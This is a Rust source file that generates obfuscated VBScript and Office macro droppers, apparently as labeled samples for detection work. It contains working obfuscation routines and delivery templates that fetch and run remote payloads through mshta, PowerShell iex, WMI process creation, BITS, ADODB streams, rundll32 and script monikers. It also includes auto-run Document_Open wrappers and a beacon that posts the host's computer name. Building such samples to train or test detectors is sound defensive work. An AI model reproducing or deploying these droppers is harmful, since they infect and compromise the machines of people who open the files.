//! Droppers in VBScript and in macros of Office, as macro packers write them.

use crate::generator::{Dice, Truth, base64, codes, each, hex, keyed, put, quoted, reversed};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".png", ".bin", ".php", ""];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(11) {
        0 => {
            let mut words = Vec::new();
            for byte in text.bytes() {
                let key = dice.below(40) as u32 + 1;
                let byte = u32::from(byte);
                words.push(match dice.below(4) {
                    0 => format!("Chr({}-{key})", byte + key),
                    1 => format!("ChrW({} + {})", byte / 2, byte - byte / 2),
                    2 => format!("Chr({} / {key})", byte * key),
                    _ => format!("ChrW(&H{byte:X})"),
                });
            }
            words.join(" & ")
        }
        1 => {
            let table = dice.shuffled("abcdefghijklmnopqrstuvwxyz0123456789:/.-");
            let _ = writeln!(before, "{name} = \"{table}\"");
            text.chars()
                .filter_map(|it| table.find(it))
                .map(|at| format!("Mid({name},{},1)", at + 1))
                .collect::<Vec<_>>()
                .join("&")
        }
        2 => {
            let key = dice.below(50) + 3;
            let list: Vec<String> =
                text.bytes().map(|it| (usize::from(it) + key).to_string()).collect();
            let _ = writeln!(
                before,
                "Function {name}({other})\n  Dim parts, n\n  parts = Split({other}, \"-\")\n  For n = LBound(parts) To UBound(parts)\n    {name} = {name} & Chr(CInt(parts(n)) - {key})\n  Next\nEnd Function"
            );
            format!("{name}(\"{}\")", list.join("-"))
        }
        3 => {
            // The decoder that most of them copy.
            let _ = writeln!(
                before,
                "Function {name}(ByVal base64String)
  Const Base64 = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"
  Dim dataLength, sOut, groupBegin
  base64String = Replace(base64String, vbCrLf, \"\")
  base64String = Replace(base64String, vbTab, \"\")
  base64String = Replace(base64String, \" \", \"\")
  dataLength = Len(base64String)
  If dataLength Mod 4 <> 0 Then
    Err.Raise 1, \"Base64Decode\", \"Bad Base64 string.\"
    Exit Function
  End If
  For groupBegin = 1 To dataLength Step 4
    Dim numDataBytes, CharCounter, thisChar, thisData, nGroup, pOut
    numDataBytes = 3
    nGroup = 0
    For CharCounter = 0 To 3
      thisChar = Mid(base64String, groupBegin + CharCounter, 1)
      If thisChar = \"=\" Then
        numDataBytes = numDataBytes - 1
        thisData = 0
      Else
        thisData = InStr(1, Base64, thisChar, vbBinaryCompare) - 1
      End If
      If thisData = -1 Then
        Err.Raise 2, \"Base64Decode\", \"Bad character In Base64 string.\"
        Exit Function
      End If
      nGroup = 64 * nGroup + thisData
    Next
    nGroup = Hex(nGroup)
    nGroup = String(6 - Len(nGroup), \"0\") & nGroup
    pOut = Chr(CByte(\"&H\" & Mid(nGroup, 1, 2))) + Chr(CByte(\"&H\" & Mid(nGroup, 3, 2))) + Chr(CByte(\"&H\" & Mid(nGroup, 5, 2)))
    sOut = sOut & Left(pOut, numDataBytes)
  Next
  {name} = sOut
End Function"
            );
            format!("{name}(\"{}\")", base64(text.as_bytes()))
        }
        4 => {
            let key = dice.name();
            let _ = writeln!(
                before,
                "Private Function {name}(ByVal hexed, ByVal key)\n  Dim i, k\n  {name} = \"\"\n  For i = 1 To Len(hexed) / 2\n    k = Asc(Mid(key, ((i - 1) Mod Len(key)) + 1, 1))\n    {name} = {name} & Chr(CByte(\"&H\" & Mid(hexed, i * 2 - 1, 2)) Xor k)\n  Next\nEnd Function"
            );
            format!("{name}(\"{}\", \"{key}\")", hex(&keyed(text, &key)))
        }
        5 => {
            let one = dice.littered(text, "@@");
            let two = dice.littered(&one, "~");
            format!("Replace(Replace(\"{two}\", \"~\", vbNullString), \"@@\", \"\", 1, -1, 0)")
        }
        6 => {
            let _ = writeln!(
                before,
                "Execute(\"{name} = \"\"\" & \"{}\" & \"\"\"\")",
                dice.pieces(text).join("\" & \"")
            );
            name
        }
        7 => {
            let _ = writeln!(
                before,
                "Dim {name}, {other}\n{other} = \"{}\"\nFor i = Len({other}) To 1 Step -1\n  {name} = {name} & Mid({other}, i, 1)\nNext",
                reversed(text)
            );
            name
        }
        8 => {
            // Letters that stand for others.
            let _ = writeln!(
                before,
                "Function {name}(s)\n  Dim i, c, r\n  For i = 1 To Len(s)\n    c = Mid(s, i, 1)\n    Select Case c\n      Case \"!\": r = r & \"t\"\n      Case \"$\", \"%\": r = r & \"/\"\n      Case \"?\": r = r & \".\"\n      Case Else: r = r & c\n    End Select\n  Next\n  {name} = r\nEnd Function"
            );
            let slash = dice.pick(&["$", "%"]);
            format!("{name}(\"{}\")", text.replace('t', "!").replace('/', slash).replace('.', "?"))
        }
        9 => {
            let _ = writeln!(
                before,
                "Dim {name}(), {other}\nReDim {name}(0)\nFor Each {other} In Array({})\n  ReDim Preserve {name}(UBound({name}) + 1)\n  {name}(UBound({name})) = Chr({other})\nNext",
                codes(text.bytes(), ",")
            );
            format!("Join({name}, \"\")")
        }
        _ => {
            let words = quoted(&dice.pieces(text), '"').join(" _\n  & ");
            let _ = writeln!(before, "{name} = {words}");
            let _ = writeln!(before, "' {}", each(&other, " ", |it| it.to_string()));
            name
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let plain = !before.contains("Function ") && !line.contains("Function ");
    let office = !["WScript.Create", "WScript.Sleep", "Execute("]
        .iter()
        .any(|only| before.contains(only) || line.contains(only));
    let text = match dice.below(6) {
        0 => {
            // Lines of comments and sums in between, and the program as one text.
            let mut code = String::new();
            for line in format!("{before}{line}").lines() {
                let _ = writeln!(code, "z = z & \"{}\" & vbCrLf", line.replace('"', "\"\""));
            }
            format!("Dim z : z = \"\"\n{code}ExecuteGlobal(z)\n")
        }
        1 if plain => {
            format!("On Error Resume Next\nMain\nSub Main()\n{before}{line}End Sub\n")
        }
        2 if plain && office => format!(
            "Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\n  Document_Open\nEnd Sub\nSub Document_Open()\nOn Error Resume Next\n{before}{line}End Sub\n"
        ),
        _ => format!("On Error Resume Next\n{before}{line}"),
    };
    text.replace('\n', "\r\n")
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    let url = truth.url(dice, FILES);
    let word = hide(dice, &url, before);
    let template = dice.pick(&[
        "Set @V@ = GetObject(\"new:9BA05972-F6A8-11CF-A442-00A0C90A8F39\")\n@V@.Item().Document.Application.ShellExecute \"cmd.exe\", \"/c mshta \" & @U@, \"C:\\Windows\\System32\", Null, 0\n",
        "Set @V@ = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2\")\nSet st = @V@.Get(\"Win32_ProcessStartup\")\nSet cf = st.SpawnInstance_\ncf.ShowWindow = 0\nSet pr = @V@.Get(\"Win32_Process\")\nrc = pr.Create(\"powershell.exe -nop -c iex (iwr '\" & @U@ & \"').Content\", Null, cf, pid)\n",
        "With WScript.CreateObject(\"Wscr\" & \"ipt.She\" & \"ll\")\n  .Environment(\"Process\").Item(\"@F@\") = @U@\n  .Run \"powershell -w hidden iex((New-Object Net.WebClient).DownloadString($env:@F@))\", 0\nEnd With\n",
        "u@V@ = @U@\nSet http = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nhttp.Open \"POST\", u@V@, False\nhttp.SetRequestHeader \"User-Agent\", \"Mozilla/4.0\"\nhttp.SetRequestHeader \"Content-Type\", \"application/x-www-form-urlencoded\"\nhttp.Option(4) = 13056\nhttp.Send \"id=\" & CreateObject(\"WScript.Network\").ComputerName\nIf http.Status = 200 Then\n  Set ts = CreateObject(\"Scripting.FileSystemObject\").OpenTextFile(\"C:\\ProgramData\\@F@.vbs\", 2, True)\n  ts.WriteLine http.ResponseText\n  ts.Close\n  CreateObject(\"WScript.Shell\").Run \"wscript C:\\ProgramData\\@F@.vbs\"\nEnd If\n",
        "Set @V@ = CreateObject(\"WScript.Shell\")\n@V@.Run \"cmd /c echo Start-BitsTransfer -Source \" & @U@ & \" -Destination $env:TEMP\\@F@.exe > %TEMP%\\@F@.ps1 & powershell -ep bypass -f %TEMP%\\@F@.ps1\", 0, True\n",
        "Dim x@V@\nSet x@V@ = CreateObject(\"Msxml2.ServerXMLHTTP.6.0\")\nx@V@.setTimeouts 5000, 5000, 15000, 15000\nx@V@.setOption 2, 13056\nFor t = 1 To 3\n  x@V@.Open \"GET\", @U@, False\n  x@V@.Send\n  If Err.Number = 0 And x@V@.readyState = 4 Then Exit For\n  WScript.Sleep 1000\nNext\nSet bs = CreateObject(\"Adodb.Stream\")\nbs.Type = 1 : bs.Mode = 3 : bs.Open()\nbs.Write(x@V@.ResponseBody)\nbs.SaveToFile CreateObject(\"Scripting.FileSystemObject\").BuildPath(CreateObject(\"WScript.Shell\").SpecialFolders(\"AppData\"), \"@F@.exe\"), 2\n",
        "s@V@ = \"rundll32.exe javascript:\"\"\\..\\mshtml,RunHTMLApplication \"\";document.write();GetObject(\"\"script:\" & @U@ & \"\"\")\"\nCreateObject(\"WScript.Shell\").Exec(s@V@)\n",
        "Set @V@ = GetObject(\"script:\" & @U@)\n@V@.Run\n",
    ]);
    put(template, &[("U", &word), ("F", &file), ("V", &var)])
}
